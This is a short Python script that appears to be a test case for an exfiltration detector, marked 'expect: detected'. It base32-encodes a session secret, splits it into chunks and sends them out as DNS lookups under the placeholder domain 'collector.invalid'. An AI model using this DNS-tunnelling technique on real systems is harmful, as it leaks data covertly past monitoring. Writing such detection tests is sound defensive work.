# tries: carry data out in names to look up
# expect: detected
import base64
import socket

secret = base64.b32encode(b"what the session knows").decode().strip("=").lower()
for part in (secret[:20], secret[20:]):
    try:
        print("EFFECT", socket.gethostbyname(part + ".collector.invalid"))
    except OSError as refused:
        print(refused)
